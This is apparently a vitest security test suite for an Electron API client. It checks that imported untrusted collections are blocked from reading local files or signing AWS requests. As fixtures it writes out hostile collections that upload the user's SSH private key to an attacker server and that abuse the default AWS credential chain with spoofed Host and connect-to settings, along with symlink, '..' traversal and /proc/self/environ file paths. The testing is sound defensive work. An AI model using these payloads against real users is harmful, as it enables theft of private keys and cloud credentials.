import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../electron/core/create-core';
import { createDispatcher, type CallContext } from '../../electron/ipc/dispatcher';
import { createHandlers } from '../../electron/ipc/handlers';
import { createMemorySecretValueStore } from '../../electron/core/variables/secret-value-store';
import { makeTempDir } from '../support/temp-dir';
import { startAttacker, type Attacker } from '../support/attacker-server';

// The user's identity, found by the default chain on this machine.
const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0001', secretAccessKey: 'userSecret/0000000000000000000000000000' };
// A marker no other byte on the wire can contain by chance.
const PRIVATE_KEY =
  '-----BEGIN OPENSSH PRIVATE KEY-----\nFIXTURE-PRIVATE-KEY-7f3c9a1e5b\n-----END OPENSSH PRIVATE KEY-----\n';

const context: CallContext = { emit: () => undefined };
type Answer = { ok: boolean; value?: unknown; error?: { code: string; message: string; details?: unknown } };
let attacker: Attacker;
let home: ReturnType<typeof makeTempDir>;
let workDir: string;
let keyPath: string;
let core: Core;
let call: (channel: string, input: unknown) => Promise<Answer>;

beforeAll(async () => {
  attacker = await startAttacker();
});
afterAll(async () => {
  await attacker.close();
});
beforeEach(() => {
  home = makeTempDir('shomei-hostile-home-');
  mkdirSync(join(home.dir, '.ssh'));
  keyPath = join(home.dir, '.ssh', 'id_rsa');
  writeFileSync(keyPath, PRIVATE_KEY);
  workDir = join(home.dir, 'Shomei');
  mkdirSync(workDir);
  writeFileSync(join(workDir, 'payload.json'), '{"inside":"the working directory"}');
  core = createCore({
    host: 'test',
    version: '0.0.0-test',
    dataDir: join(home.dir, 'data'),
    workingDirectory: workDir,
    env: { AWS_ACCESS_KEY_ID: USER_KEYS.accessKeyId, AWS_SECRET_ACCESS_KEY: USER_KEYS.secretAccessKey },
    secrets: createMemorySecretValueStore(),
  });
  const dispatcher = createDispatcher(createHandlers(core));
  call = (channel, input) => dispatcher.dispatch(channel, input, context) as Promise<Answer>;
  attacker.received.length = 0;
});
afterEach(async () => {
  await core.close();
  home.remove();
});

/** A shared Postman collection that uploads the user's private key twice, to the attacker. */
function postmanExfiltration(): string {
  return JSON.stringify({
    info: { name: 'Handy API', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [
      {
        name: 'Upload',
        request: { method: 'PUT', url: `${attacker.origin}/upload`, body: { mode: 'file', file: { src: keyPath } } },
      },
      {
        name: 'Form',
        request: {
          method: 'POST',
          url: `${attacker.origin}/form`,
          body: { mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: keyPath }] },
        },
      },
    ],
  });
}

/** A shared Shomei file that makes Shomei sign the attacker's AWS calls with the user's identity. */
function shomeiSigningAttack(): string {
  const aws = (service: string) => ({
    type: 'aws-sigv4',
    credentialSource: { source: 'default-chain' },
    region: 'us-east-1',
    service,
    isQuerySigned: false,
    expiresInSeconds: 900,
  });
  const port = new URL(attacker.origin).port;
  return JSON.stringify({
    format: 'shomei.collection',
    formatVersion: 1,
    collection: {
      id: 'innocent',
      name: 'Innocent',
      items: [
        {
          kind: 'request',
          id: 'sts',
          name: 'Who am I',
          method: 'GET',
          url: 'http://sts.amazonaws.com/',
          params: [
            { name: 'Action', value: 'GetCallerIdentity', isEnabled: true },
            { name: 'Version', value: '2011-06-15', isEnabled: true },
          ],
          auth: { ...aws('sts'), isQuerySigned: true, expiresInSeconds: 604_800 },
          options: { connectTo: `127.0.0.1:${port}` },
        },
        {
          kind: 'request',
          id: 'secret',
          name: 'Read a secret',
          method: 'POST',
          url: `${attacker.origin}/`,
          headers: [
            { name: 'Host', value: 'secretsmanager.us-east-1.amazonaws.com', isEnabled: true },
            { name: 'X-Amz-Target', value: 'secretsmanager.GetSecretValue', isEnabled: true },
          ],
          body: { kind: 'text', language: 'json', text: '{"SecretId":"prod/db"}' },
          auth: aws('secretsmanager'),
        },
      ],
    },
  });
}

async function importText(text: string): Promise<string> {
  const imported = await call('import:run', { text });
  expect(imported.ok).toBe(true);
  return (imported.value as { collectionId: string }).collectionId;
}

/** Every request of a collection, as the editor would send it. */
function requestsOf(collectionId: string) {
  return core.collections.getCollection(collectionId).items.flatMap((item) => {
    if (item.kind !== 'request') return [];
    const { kind: _kind, id, ...request } = item;
    return [{ id, request, options: item.options }];
  });
}

function noKeyByteReached(): void {
  for (const received of attacker.received) {
    expect(received.body.includes(Buffer.from('FIXTURE-PRIVATE-KEY'))).toBe(false);
  }
}

describe('a hostile collection, until the user trusts it', () => {
  it('reads no local file: the Postman import uploads no byte of the private key, and says why', async () => {
    const collectionId = await importText(postmanExfiltration());
    expect(await call('trust:summary', { collectionId })).toMatchObject({
      ok: true,
      value: { isTrusted: false, files: [keyPath], hosts: [new URL(attacker.origin).host] },
    });
    for (const { id, request } of requestsOf(collectionId)) {
      const sent = await call('request:send-draft', { requestId: `r-${id}`, request, savedRequestId: id });
      expect(sent).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
      expect(sent.error?.message).toMatch(/not trusted yet.*read the local file/);
    }
    expect(attacker.received).toHaveLength(0);
  });

  it('signs nothing: no STS presigned URL, no Secrets Manager call, no inspector signature, nothing delivered', async () => {
    const collectionId = await importText(shomeiSigningAttack());
    expect(await call('trust:summary', { collectionId })).toMatchObject({
      ok: true,
      value: {
        isTrusted: false,
        credentialSources: ['the default credential chain'],
        connectTo: [`127.0.0.1:${new URL(attacker.origin).port}`],
        hostHeaders: ['secretsmanager.us-east-1.amazonaws.com'],
      },
    });
    for (const { id, request, options } of requestsOf(collectionId)) {
      const input = { request, savedRequestId: id, ...(options ? { options } : {}) };
      const answers = [
        await call('request:send-draft', { requestId: `r-${id}`, ...input }),
        await call('request:presign-draft', input),
        await call('request:inspect-draft', input),
      ];
      for (const answer of answers) expect(answer).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
      expect(JSON.stringify(answers)).not.toMatch(/X-Amz-Signature|Signature=|AKIAUSER/);
      expect(await call('request:identity-draft', input)).toMatchObject({
        ok: true,
        value: { state: 'blocked', code: 'UNTRUSTED' },
      });
    }
    expect(attacker.received).toHaveLength(0);
  });
});

describe('a hostile collection in history', () => {
  // Security: a refused send is in history with what it tried (the attacker's Host, its
  // connect-to, the default chain); reopened, it would be a new request of the user's, which no
  // trust check covers, and one Send signs it with the user's identity.
  async function refusedSends(collectionId: string) {
    for (const { id, request, options } of requestsOf(collectionId)) {
      const input = { request, savedRequestId: id, ...(options ? { options } : {}) };
      expect(await call('request:send-draft', { requestId: `r-${id}`, ...input })).toMatchObject({
        ok: false,
        error: { code: 'UNTRUSTED' },
      });
    }
    const listed = await call('history:list', {});
    const entries = listed.value as { id: string; origin?: { collectionId: string; wasTrusted?: boolean } }[];
    expect(entries.length).toBe(2);
    for (const entry of entries) expect(entry.origin).toMatchObject({ collectionId, wasTrusted: false });
    return entries;
  }

  it('reopens none of its refused sends until the collection is trusted, and then each of them', async () => {
    const collectionId = await importText(shomeiSigningAttack());
    for (const entry of await refusedSends(collectionId)) {
      const reopened = await call('history:reopen', { id: entry.id });
      expect(reopened).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
      expect(reopened.error?.message).toMatch(/collection "Innocent", which was imported and is not trusted yet/);
    }
    expect(await call('trust:trust-collection', { collectionId })).toMatchObject({ ok: true });
    for (const entry of (await call('history:list', {})).value as { id: string }[]) {
      expect(await call('history:reopen', { id: entry.id })).toMatchObject({ ok: true });
    }
    expect(attacker.received).toHaveLength(0);
  });

  it('reopens none of them after the untrusted collection is deleted either', async () => {
    const collectionId = await importText(shomeiSigningAttack());
    const entries = await refusedSends(collectionId);
    expect(await call('collections:delete', { id: collectionId })).toMatchObject({ ok: true });
    for (const entry of entries) {
      const reopened = await call('history:reopen', { id: entry.id });
      expect(reopened).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
      expect(reopened.error?.message).toMatch(/not trusted and is gone now/);
    }
    expect(attacker.received).toHaveLength(0);
  });
});

describe('a hostile collection, once trusted: files only inside the working directory', () => {
  it('refuses the private key, a symlink to it, a `..` walk and //proc, with one message whether or not the file exists', async () => {
    const collectionId = await importText(postmanExfiltration());
    await call('trust:trust-collection', { collectionId });
    symlinkSync(keyPath, join(workDir, 'innocent.txt'));
    const [upload] = requestsOf(collectionId);
    if (!upload) throw new Error('nothing imported');
    const tryFile = (filePath: string) =>
      call('request:send-draft', {
        requestId: `f-${filePath.length}`,
        request: { ...upload.request, body: { kind: 'binary', filePath } },
        savedRequestId: upload.id,
      });
    const outside = [
      keyPath,
      join(workDir, 'innocent.txt'),
      `${workDir}/../.ssh/id_rsa`,
      '//proc/self/environ',
      join(home.dir, '.ssh', 'no-such-key'),
    ];
    const messages: string[] = [];
    for (const filePath of outside) {
      const answer = await tryFile(filePath);
      expect(answer, filePath).toMatchObject({ ok: false, error: { code: 'FILE_NOT_ALLOWED' } });
      messages.push((answer.error?.message ?? '').replace(filePath, 'PATH'));
    }
    // Security: the answer for an existing key and a missing one is the same sentence.
    expect(new Set(messages).size).toBe(1);
    expect(attacker.received).toHaveLength(0);

    const inside = await tryFile(join(workDir, 'payload.json'));
    expect(inside).toMatchObject({ ok: true, value: { status: 200 } });
    expect(attacker.received.at(-1)?.body.toString('utf8')).toBe('{"inside":"the working directory"}');

    // Allowed one by one, by the user: that file and no other.
    await call('trust:allow-file', { path: keyPath });
    expect(await tryFile(keyPath)).toMatchObject({ ok: true });
    expect(await tryFile(join(home.dir, '.ssh', 'no-such-key'))).toMatchObject({
      ok: false,
      error: { code: 'FILE_NOT_ALLOWED' },
    });
    await call('trust:forget-file', { path: keyPath });
    expect(await tryFile(keyPath)).toMatchObject({ ok: false, error: { code: 'FILE_NOT_ALLOWED' } });
  });

  it('the same working-directory rule holds for requests made in the app', async () => {
    const sent = await call('request:send-draft', {
      requestId: 'own',
      request: {
        name: 'Mine',
        method: 'PUT',
        url: `${attacker.origin}/mine`,
        body: { kind: 'multipart', parts: [{ kind: 'file', name: 'k', filePath: keyPath }] },
      },
    });
    expect(sent).toMatchObject({ ok: false, error: { code: 'FILE_NOT_ALLOWED' } });
    noKeyByteReached();
    expect(attacker.received).toHaveLength(0);
  });
});
